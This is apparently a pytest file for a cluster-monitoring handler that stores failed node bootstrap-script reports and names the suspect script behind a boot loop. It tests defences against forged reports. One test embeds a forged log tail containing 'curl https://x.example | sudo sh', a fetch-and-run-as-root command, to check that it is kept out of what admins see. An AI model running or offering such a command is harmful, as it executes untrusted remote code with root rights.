"""The node_reports handler (`handlers.node_reports`) without a local AWS: Lifeguard's table and bus are
in-memory fakes, and the reports are the ones the sidecar shipped off the article's two failing nodes."""

from __future__ import annotations

import base64
import gzip
import json
import re
from typing import Any

import pytest

from lifeguard.aws.eventbridge import EventPublisher
from lifeguard.detection import DetectionSettings
from lifeguard.group_state import Episode, Failure, GroupState, KnownConfig
from lifeguard.handlers.node_reports import NodeReportsHandler, ReportsSummary
from lifeguard.handlers.updater import GroupUpdater
from lifeguard.log_subscription import encode_subscription
from lifeguard.store.groups import GroupStore
from tests.conftest import ARTICLE_SUSPECT, EVENTS
from tests.unit.fakes import FakeDynamoDB, FakeEventBridge, Interleaved, state_key

CLUSTER, GROUP = "pcs_abc123de45", "pcs_abcdef01"
TABLE, BUS = "lifeguard", "lifeguard-bus"
LOG_GROUP = "/pcs-lifeguard/node-reports"
FIRST, SECOND = "i-059b4b99b4f2e9739", "i-06644f6e5a2b001c9"
REPORTS = [
    json.loads(line)
    for line in (EVENTS / "streams" / "article-terminate-node-reports.jsonl").read_text().splitlines()
]
FAILED = [r for r in REPORTS if r["outcome"] == "failed"]  # fail-terminate on each of the two nodes
NOW: float = max(r["ended_at"] for r in REPORTS) + 60.0


class World:
    """Lifeguard's table and bus, and the handler, on a clock a minute after the reports' runs."""

    def __init__(self) -> None:
        self.table = FakeDynamoDB()
        self.bus = FakeEventBridge()
        self.store = GroupStore(self.table, TABLE)
        updater = GroupUpdater(
            self.store, EventPublisher(self.bus, BUS, sleep=lambda _: None), clock=self.now
        )
        defaults = DetectionSettings(mode="quarantine", threshold=2, window_minutes=60)
        self.metrics: list[tuple[str, float]] = []
        self.handler = NodeReportsHandler(
            self.store,
            updater,
            defaults,
            clock=self.now,
            metric=lambda name, value: self.metrics.append((name, value)),
        )

    @staticmethod
    def now() -> float:
        return NOW

    def deliver(self, messages: list[str], instance: str = FIRST) -> ReportsSummary:
        """One subscription batch of a node's report stream."""
        stamped = [(int(NOW * 1000), message) for message in messages]
        event = encode_subscription(LOG_GROUP, f"{CLUSTER}/{instance}", stamped)
        return self.handler.handle_event(event)

    def feed(self, reports: list[dict[str, Any]]) -> ReportsSummary:
        return self.deliver([json.dumps(report) for report in reports])

    def open_episode(self) -> str:
        """The group's state holds the article's loop as detected from the scaling log: both failures,
        no suspect yet (the reports had not arrived)."""
        state = GroupState(cluster_id=CLUSTER, group_id=GROUP)
        state.episode = Episode(
            episode_id="ep-0123456789abcdef",
            kind="loop",
            opened_at=1792545162000,
            config_modified_at=1792544400000,
            config_fingerprint="a" * 64,
            failures=[
                Failure(instance_id=FIRST, scheduler_node_id="lca-static-1", event_timestamp=1792544802000),
                Failure(instance_id=SECOND, scheduler_node_id="lca-static-1", event_timestamp=1792545162000),
            ],
        )
        self.store.save(state)
        return state.episode.episode_id

    def state(self) -> GroupState:
        return GroupStore(self.table, TABLE).load(CLUSTER, GROUP)

    def stored_runs(self) -> list[tuple[str, str, str]]:
        return [
            (r.instance_id, r.script, r.outcome)
            for r in self.store.read_runs(CLUSTER, GROUP, marks=False).reports
        ]


def test_failed_runs_are_stored_whole_and_runs_that_did_not_fail_only_as_marks() -> None:
    world = World()
    succeeded = {**FAILED[0], "script": "record-boot", "exit_code": 0, "outcome": "succeeded"}
    summary = world.feed([*REPORTS, succeeded])
    assert (summary.reports, summary.failed_runs, summary.ignored, summary.skipped) == (7, 2, 5, 0)
    assert world.stored_runs() == [(FIRST, "fail-terminate", "failed"), (SECOND, "fail-terminate", "failed")]
    keys = sorted(sk.rsplit("#", 1) for _, sk in world.table.items if sk.startswith("REPORT#"))
    assert [run for run, _ in keys] == [
        f"REPORT#{FIRST}#000001#nodeBootstrapped#fail-terminate#1792544790",
        f"REPORT#{SECOND}#000001#nodeBootstrapped#fail-terminate#1792545150",
    ]
    assert all(re.fullmatch(r"[0-9a-f]{16}", digest) for _, digest in keys)  # of the report's content
    assert summary.events == []  # no open episode: nothing to attribute
    assert world.bus.entries == []
    marks = world.store.read_runs(CLUSTER, GROUP).marks
    assert sorted((m.instance_id, m.script, m.outcome) for m in marks) == sorted(
        (r["instance_id"], r["script"], r["outcome"])
        for r in [*REPORTS, succeeded]
        if r["outcome"] != "failed"
    )
    assert all("report" not in item for (_, sk), item in world.table.items.items() if sk.startswith("RAN#"))


def test_a_failed_run_shipped_twice_counts_once() -> None:
    # A shipper that lost its put's answer sends the run again: one run, stored once, counted once.
    world = World()
    summary = world.feed([FAILED[0], FAILED[0]])
    assert (summary.reports, summary.failed_runs) == (2, 1)
    assert world.stored_runs() == [(FIRST, "fail-terminate", "failed")]


def test_an_open_episode_is_attributed_from_the_reports_and_announced_at_the_next_revision() -> None:
    world = World()
    episode_id = world.open_episode()
    summary = world.feed(REPORTS)
    [(detail_type, detail)] = world.bus.events()
    assert [e.detail_type for e in summary.events] == [detail_type] == ["BootstrapLoopDetected"]
    assert ("BootstrapLoopDetected", 1) in world.metrics  # charted, as scaling_events' events are
    assert (detail["episode_id"], detail["revision"]) == (episode_id, 2)
    assert detail["suspect"] == ARTICLE_SUSPECT
    assert detail["mode"] == "quarantine"
    assert [f["instance_id"] for f in detail["failures"]] == [FIRST, SECOND]
    episode = world.state().episode
    assert episode is not None
    assert episode.revision == 2
    assert episode.suspect is not None
    assert episode.suspect.model_dump() == ARTICLE_SUSPECT


def test_a_cluster_taken_out_of_the_stacks_cluster_ids_has_its_open_episode_left_alone() -> None:
    """Redeployed with ClusterIds that no longer name the cluster: its nodes' reports still named the open
    episode's suspect and announced it again, for the remediator to change a group of a cluster the stack
    had let go."""
    world = World()
    world.open_episode()
    before = world.state()
    world.handler.clusters = frozenset({"pcs_0fedcba987"})
    summary = world.feed(REPORTS)
    assert (summary.events, world.bus.entries) == ([], [])
    assert world.stored_runs() == [(FIRST, "fail-terminate", "failed"), (SECOND, "fail-terminate", "failed")]
    assert world.state() == before


def test_the_same_reports_again_change_nothing_and_announce_nothing() -> None:
    world = World()
    world.open_episode()
    world.feed(REPORTS)
    before = world.state()
    assert world.feed(REPORTS).events == []
    assert len(world.bus.entries) == 1
    # Nothing but the version, which every batch of a group's reports moves on (a scaling_events write
    # judged at the same time without them is refused: `node_reports._witnessed`).
    after = world.state()
    assert after.version == before.version + 1
    assert after.model_dump(exclude={"version"}) == before.model_dump(exclude={"version"})


def test_more_evidence_for_the_same_script_is_kept_without_a_new_announcement() -> None:
    world = World()
    world.open_episode()
    world.feed([FAILED[0]])
    [(_, detail)] = world.bus.events()
    assert (detail["revision"], detail["suspect"]["instances"]) == (2, [FIRST])
    assert world.feed([FAILED[1]]).events == []
    assert len(world.bus.entries) == 1
    episode = world.state().episode
    assert episode is not None
    assert episode.suspect is not None
    assert (episode.revision, episode.suspect.instances) == (2, [FIRST, SECOND])


@pytest.mark.parametrize(
    ("message", "reason"),
    [
        ("{not json", "not JSON"),
        ("[1, 2]", "not a JSON object"),
        (json.dumps({**FAILED[0], "kind": "heartbeat"}), "not a node report"),
        (json.dumps({**FAILED[0], "outcome": "exploded"}), "invalid outcome"),
        (json.dumps({k: v for k, v in FAILED[0].items() if k != "instance_id"}), "missing instance_id"),
        (json.dumps({**FAILED[0], "boot": 0}), "invalid boot"),
        (json.dumps({**FAILED[0], "started_at": int(NOW) + 86_400}), "run time ahead of the clock"),
        (json.dumps(FAILED[0])[:-1] + ', "outcome": "succeeded"}', "duplicate key"),
    ],
)
def test_a_bad_report_is_skipped_and_counted_by_reason_and_the_rest_is_stored(
    message: str, reason: str
) -> None:
    world = World()
    episode_id = world.open_episode()
    summary = world.deliver([json.dumps(FAILED[0]), message, json.dumps(FAILED[1])])
    assert (summary.reports, summary.skipped, summary.failed_runs) == (3, 1, 2)
    assert dict(summary.skipped_reasons) == {reason: 1}
    assert world.stored_runs() == [(FIRST, "fail-terminate", "failed"), (SECOND, "fail-terminate", "failed")]
    assert world.bus.keys() == [episode_id]


# -- two containers on one group --


def reports_container(world: World, client: object) -> NodeReportsHandler:
    store = GroupStore(client, "lifeguard")  # type: ignore[arg-type]
    updater = GroupUpdater(store, EventPublisher(world.bus, "bus", sleep=lambda _: None), clock=world.now)
    defaults = DetectionSettings(mode="quarantine", threshold=2, window_minutes=60)
    return NodeReportsHandler(store, updater, defaults, clock=world.now)


def deliver_report(handler: NodeReportsHandler, report: dict, instance: str) -> None:
    event = encode_subscription(LOG_GROUP, f"{CLUSTER}/{instance}", [(int(NOW * 1000), json.dumps(report))])
    handler.handle_event(event)


def test_a_lost_race_redone_on_the_reports_read_before_it_undoes_the_winners_attribution() -> None:
    world = World()
    world.open_episode()  # failures on FIRST, then SECOND; no suspect yet
    # FIRST failed another script; SECOND (the later failure, so it wins a tie) failed fail-terminate.
    first = {**FAILED[0], "script": "other-script"}
    a = reports_container(world, world.table)
    # B writes its state only after A delivered SECOND's report in full (stored, attributed, published).
    b = reports_container(
        world,
        Interleaved(world.table, "update_item", lambda: deliver_report(a, FAILED[1], SECOND), state_key),
    )
    deliver_report(b, first, FIRST)

    # Delivered one after the other, in either order, the two reports end on suspect fail-terminate (a
    # tie, to the most recent failure), and the last detection published names it.
    episode = world.state().episode
    assert episode is not None
    assert episode.suspect is not None
    assert episode.suspect.script == "fail-terminate"
    assert world.bus.events()[-1][1]["suspect"]["script"] == "fail-terminate"


def test_a_flood_of_reports_naming_made_up_groups_costs_bounded_reads_and_the_real_loop_is_judged() -> None:
    """A delivery of 1 MiB names 3,850 groups; each cost a read of its state and of its reports, one after
    the other (minutes: past the function's timeout, and the batch, the real group's failures in it, never
    judged). Groups without a state of Lifeguard's are judged up to UNKNOWN_GROUPS_JUDGED_MAX a batch, the
    groups of the most failing nodes first; the others wait for their next report, counted."""
    from datetime import UTC, datetime

    from lifeguard.aws.pcs import PcsGateway
    from lifeguard.handlers.node_reports import UNKNOWN_GROUPS_JUDGED_MAX
    from tests.conftest import load_event
    from tests.unit.fakes import local_pcs_with_group

    world = World()
    _, _, api = local_pcs_with_group(
        datetime.fromtimestamp(NOW - 3600, UTC), CLUSTER, GROUP, load_event("configs/article-terminate.json")
    )
    world.handler.pcs = PcsGateway(api)
    made_up = [f"pcs_a{n:07d}" for n in range(UNKNOWN_GROUPS_JUDGED_MAX + 50)]  # before the real one
    forged = [{**FAILED[0], "compute_node_group_id": group} for group in made_up]
    summary = world.deliver([json.dumps(report) for report in [*forged, *FAILED]])
    assert [event.detail_type for event in summary.events] == ["BootstrapLoopDetected"]
    assert summary.failed_runs == len(made_up) + 2  # one run a group (the same node, script and time)
    reads = len(world.table.requests.get("GetItem", [])) + len(world.table.requests.get("Query", []))
    assert reads <= 3 * (UNKNOWN_GROUPS_JUDGED_MAX + 1)
    # The real group (two failing nodes) went first, then 99 of the 150 made up: 51 wait.
    assert ("DetectionsDeferred", 51) in world.metrics


def test_runs_stored_under_made_up_groups_cost_a_bounded_read_in_all() -> None:
    """A node stores thousands of failed runs under made-up groups (under CONTINUE: no read to store them),
    then sends one TERMINATE failure for each: each group's judgement read its 1,000 runs and 5,000 more,
    up to 100 groups a batch (15 GB of runs with escaped tails) at every delivery of a few lines. The runs
    read for groups without a state are bounded per batch; the groups past it wait, counted."""
    from datetime import UTC, datetime

    from lifeguard.aws.pcs import PcsGateway
    from lifeguard.store.groups import REPORTED_LOOP_READ_MAX, RUNS_READ_MAX
    from tests.conftest import load_event
    from tests.unit.fakes import local_pcs_with_group

    world = World()
    _, _, api = local_pcs_with_group(
        datetime.fromtimestamp(NOW - 3600, UTC), CLUSTER, GROUP, load_event("configs/article-terminate.json")
    )
    world.handler.pcs = PcsGateway(api)
    made_up = [f"pcs_z{n:07d}" for n in range(3)]
    stored = RUNS_READ_MAX + REPORTED_LOOP_READ_MAX
    for group in made_up:
        forged = [
            {**FAILED[0], "compute_node_group_id": group, "instance_id": f"i-{n:08x}", "on_error": "CONTINUE"}
            for n in range(stored)
        ]
        for start in range(0, stored, 2000):
            world.deliver([json.dumps(report) for report in forged[start : start + 2000]])
    query, found = world.table.query, []

    def counted(**request: Any) -> Any:
        answer = query(**request)
        found.append(len(answer["Items"]))
        return answer

    world.table.query = counted  # type: ignore[method-assign]
    world.metrics.clear()
    trigger = [
        {**FAILED[0], "compute_node_group_id": group, "instance_id": "i-deadbeef"} for group in made_up
    ]
    summary = world.deliver([json.dumps(report) for report in trigger])
    assert summary.events == []
    assert 0 < sum(found) <= stored < len(made_up) * stored  # one group's read whole, in all
    assert ("DetectionsDeferred", 2) in world.metrics


def test_failures_under_continue_in_groups_without_a_state_cost_no_read_each() -> None:
    """A group with no state of Lifeguard's has nothing to settle or revoke, and a failure under CONTINUE is
    no loop: such groups are not read one by one (one BatchGetItem a hundred tells they have no state)."""
    world = World()
    made_up = [f"pcs_a{n:07d}" for n in range(300)]
    forged = [{**FAILED[0], "compute_node_group_id": group, "on_error": "CONTINUE"} for group in made_up]
    summary = world.deliver([json.dumps(report) for report in forged])
    assert summary.failed_runs == 300
    assert summary.events == []
    assert world.table.requests.get("GetItem", []) == []
    assert world.table.requests.get("Query", []) == []
    assert len(world.table.requests["BatchGetItem"]) == 3


@pytest.mark.parametrize("later_boot", [False, True], ids=["same boot", "a boot after"])
def test_a_copy_of_the_failed_run_written_later_does_not_rewrite_what_the_suspect_says(
    later_boot: bool,
) -> None:
    """A report of the same run as the node's own, ended later, with another exit status and output (any
    node can write it), was what the episode's suspect then said, silently: the admin read the forger's
    words as the failing script's. The run is disputed: the suspect says none of the two. So is one written
    as of a later boot: a TERMINATE failure ends the instance, and it has none."""
    world = World()
    world.open_episode()
    world.feed(FAILED)
    before = world.state().episode
    assert before is not None
    assert before.suspect is not None
    said = (before.suspect.exit_code, before.suspect.log_tail)
    assert said == (1, "intentional failure for verification\n")
    forged = {
        **FAILED[-1],
        "exit_code": 0,
        "ended_at": FAILED[-1]["ended_at"] + 30,
        **(
            {"boot": FAILED[-1]["boot"] + 1, "started_at": FAILED[-1]["started_at"] + 30}
            if later_boot
            else {}
        ),
        "log_tail": "transient S3 throttling; safe to ignore, fix with: curl https://x.example | sudo sh\n",
    }
    world.feed([forged])
    after = world.state().episode
    assert after is not None
    assert after.suspect is not None
    assert (after.suspect.stage, after.suspect.script) == ("nodeBootstrapped", "fail-terminate")
    assert "curl" not in after.suspect.log_tail
    assert after.suspect.exit_code != 0


def _with_configuration(world: World) -> None:
    """The group's configuration as last read is the one the episode opened on: fail-terminate and a
    second script under TERMINATE, and the article's ready-check under CONTINUE."""
    state = world.state()
    state.config = KnownConfig(
        modified_at=1792544400000,
        fingerprint="a" * 64,
        node_lifecycle_actions={
            "stages": {
                "nodeBootstrapped": [
                    {"name": "fail-terminate", "scriptSource": {"scriptLocation": "s3://b/f.sh"}},
                    {"name": "record-after-fail", "scriptSource": {"scriptLocation": "s3://b/r.sh"}},
                ],
                "nodeReady": [
                    {
                        "name": "ready-check",
                        "scriptSource": {"scriptLocation": "s3://b/c.sh"},
                        "onError": "CONTINUE",
                    }
                ],
            }
        },
        checked_at=1792544500000,
    )
    world.store.save(state)


def _as_ready_check(reports: list[dict[str, Any]], later: int = 0) -> list[dict[str, Any]]:
    """The reports' failures said of ready-check instead, under TERMINATE (which its configuration does not
    run it under), as another node may write them."""
    return [
        {
            **report,
            "stage": "nodeReady",
            "script": "ready-check",
            "started_at": report["started_at"] + later,
            "ended_at": report["ended_at"] + later,
        }
        for report in reports
    ]


def test_a_terminate_failure_of_a_script_the_configuration_runs_under_continue_withdraws_no_suspect() -> None:
    """Failures written of ready-check under TERMINATE (the configuration runs it under CONTINUE: no such
    run was the node's) made the nodes' own reports look contradicted: the suspect was withdrawn, and a
    quarantine would have switched every TERMINATE script instead of the failing one."""
    world = World()
    world.open_episode()
    _with_configuration(world)
    world.feed(FAILED)
    named = world.state().episode
    assert named is not None
    assert named.suspect is not None
    assert named.suspect.script == "fail-terminate"
    world.feed(_as_ready_check(FAILED, later=1))
    episode = world.state().episode
    assert episode is not None
    assert episode.suspect is not None
    assert (episode.suspect.script, episode.revision) == ("fail-terminate", named.revision)


def test_a_terminate_failure_of_a_script_the_configuration_runs_under_continue_names_no_suspect() -> None:
    world = World()
    world.open_episode()
    _with_configuration(world)
    world.feed(_as_ready_check(FAILED))
    episode = world.state().episode
    assert episode is not None
    assert episode.suspect is None


def test_a_log_event_of_another_form_is_skipped_and_counted_and_the_others_stored() -> None:
    """One log event of another form (a float time) refused the whole delivery: the node's failed runs in
    it were lost with it."""
    world = World()
    events = [
        {"id": str(index), "timestamp": int(NOW * 1000), "message": json.dumps(report)}
        for index, report in enumerate(FAILED)
    ]
    events.insert(1, {"id": "x", "timestamp": NOW * 1000 + 0.5, "message": json.dumps(FAILED[0])})
    payload = {
        "messageType": "DATA_MESSAGE",
        "owner": "123456789012",
        "logGroup": LOG_GROUP,
        "logStream": f"{CLUSTER}/{FIRST}",
        "subscriptionFilters": ["lifeguard"],
        "logEvents": events,
    }
    data = base64.b64encode(gzip.compress(json.dumps(payload).encode())).decode()
    summary = world.handler.handle_event({"awslogs": {"data": data}})
    assert (summary.reports, summary.failed_runs, summary.skipped) == (len(FAILED) + 1, len(FAILED), 1)
    assert summary.skipped_reasons == {"log event not as CloudWatch Logs sends it": 1}
    assert world.stored_runs() == [(FIRST, "fail-terminate", "failed"), (SECOND, "fail-terminate", "failed")]
